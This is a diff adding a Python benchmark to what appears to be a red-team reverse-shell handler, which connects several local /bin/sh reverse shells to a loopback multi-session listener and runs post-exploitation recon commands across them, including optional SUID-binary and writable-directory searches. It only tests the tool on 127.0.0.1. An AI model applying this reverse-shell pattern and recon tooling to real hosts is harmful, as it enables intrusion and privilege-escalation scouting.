@@ -0,0 +1,114 @@
+#!/usr/bin/env python3
+"""
+Multi-session listener check with loopback reverse shells.
+
+Starts a MultiListener on 127.0.0.1, connects N local /bin/sh shells
+back to it, then:
+  - checks every session is its own shell (distinct $$),
+  - leaves output arriving in a background session while another one
+    is being driven, and checks it lands in that session's ring buffer,
+  - runs the situational awareness batch on all sessions one after the
+    other and then concurrently, checks both return the same output
+    and compares the timings.
+
+Examples (from 04-exploitation/):
+    python -m rt_reverse_shell_handler.benchmarks.multi_sessions
+    python -m rt_reverse_shell_handler.benchmarks.multi_sessions --sessions 20 --framed
+"""
+
+import argparse
+import socket
+import subprocess
+import time
+from concurrent.futures import ThreadPoolExecutor
+
+from ..config import RECON_COMMANDS
+from ..recon.situational_awareness import SituationalAwareness
+from ..shell.communicator import Communicator
+from ..shell.listener import MultiListener
+
+
+# Filesystem-wide finds dominate the full set; --full-recon includes them
+SKIPPED = ('SUID Binaries', 'Writeable Directories')
+
+# Output that does not change between two runs on the same host
+STABLE = ('Hostname', 'Current User', 'User ID', 'Kernel', 'Architecture')
+
+
+def spawn_shell(port):
+    """Local /bin/sh with stdin/stdout/stderr on a socket connected back to port"""
+    victim = socket.create_connection(('127.0.0.1', port))
+    shell = subprocess.Popen(['/bin/sh'], stdin=victim, stdout=victim, stderr=victim)
+    victim.close()
+    return shell
+
+
+def main():
+    parser = argparse.ArgumentParser(description="Multi-session listener loopback check")
+    parser.add_argument('--sessions', type=int, default=8)
+    parser.add_argument('--framed', action='store_true', help='Use framed communicators')
+    parser.add_argument('--timeout', type=float, default=0.5, help='Per-command timeout (unframed)')
+    parser.add_argument('--full-recon', action='store_true', help='Include the filesystem-wide finds')
+    args = parser.parse_args()
+
+    listener = MultiListener('127.0.0.1', 0, quiet=True,
+                             on_session=lambda s: setattr(s, 'communicator', Communicator(s, framed=args.framed)))
+    listener.start()
+    shells = [spawn_shell(listener.lport) for _ in range(args.sessions)]
+
+    deadline = time.monotonic() + 10
+    while len(listener.alive_sessions()) < args.sessions and time.monotonic() < deadline:
+        time.sleep(0.01)
+    sessions = listener.alive_sessions()
+    print(f"[*] {len(sessions)}/{args.sessions} sessions connected "
+          f"({'framed' if args.framed else 'timeout reads'})")
+
+    # Every session is its own shell
+    pids = {s.communicator.execute_command('echo $$', args.timeout).strip() for s in sessions}
+    print(f"[{'+' if len(pids) == len(sessions) else '-'}] {len(pids)} distinct shell PIDs")
+
+    # Background output keeps landing in a session's ring while another is driven
+    background, foreground = sessions[0], sessions[-1]
+    background.communicator.send_command('(sleep 0.3; echo background-done) &')
+    foreground.communicator.execute_command('sleep 0.5; echo foreground-done', 2)
+    time.sleep(0.1)
+    ok = b'background-done' in background.output.read()
+    print(f"[{'+' if ok else '-'}] Background session output buffered "
+          f"({background.output.total} bytes in ring)")
+
+    commands = {name: command for name, command in RECON_COMMANDS.items()
+                if args.full_recon or name not in SKIPPED}
+
+    def recon(session):
+        return SituationalAwareness(session.communicator).collect(commands, timeout=args.timeout)
+
+    started = time.perf_counter()
+    sequential = [recon(s) for s in sessions]
+    sequential_time = time.perf_counter() - started
+
+    started = time.perf_counter()
+    with ThreadPoolExecutor(max_workers=len(sessions)) as pool:
+        concurrent = list(pool.map(recon, sessions))
+    concurrent_time = time.perf_counter() - started
+
+    total = sum(len(r) for r in concurrent)
+    print(f"\n{'Recon':<14}{'sessions':>9}{'commands':>10}{'total s':>10}")
+    print(f"{'sequential':<14}{len(sessions):>9}{total:>10}{sequential_time:>10.2f}")
+    print(f"{'concurrent':<14}{len(sessions):>9}{total:>10}{concurrent_time:>10.2f}")
+
+    hostnames = {r.get('Hostname') for r in concurrent}
+    print(f"[{'+' if all(hostnames) else '-'}] Every session returned recon output")
+
+    def stable(results):
+        return [{name: r.get(name) for name in STABLE} for r in results]
+
+    same = stable(sequential) == stable(concurrent)
+    print(f"[{'+' if same else '-'}] Concurrent recon {'matches' if same else 'DIFFERS from'} sequential")
+
+    listener.close()
+    for shell in shells:
+        shell.wait(timeout=5)
+
+
+if __name__ == '__main__':
+    main()